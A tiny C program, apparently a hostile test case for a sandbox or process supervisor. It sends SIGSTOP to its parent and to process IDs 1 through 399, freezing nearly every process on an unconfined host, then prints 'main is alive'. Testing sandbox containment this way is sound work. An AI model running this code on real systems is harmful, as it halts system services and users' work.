/* Sends SIGSTOP to every process but itself: a supervisor inside would never reap again. */
#include "attack.h"
int main(void) {
    kill(getppid(), SIGSTOP);
    for (pid_t pid = 1; pid < 400; pid++)
        if (pid != getpid()) kill(pid, SIGSTOP);
    puts("main is alive");
    return 0;
}
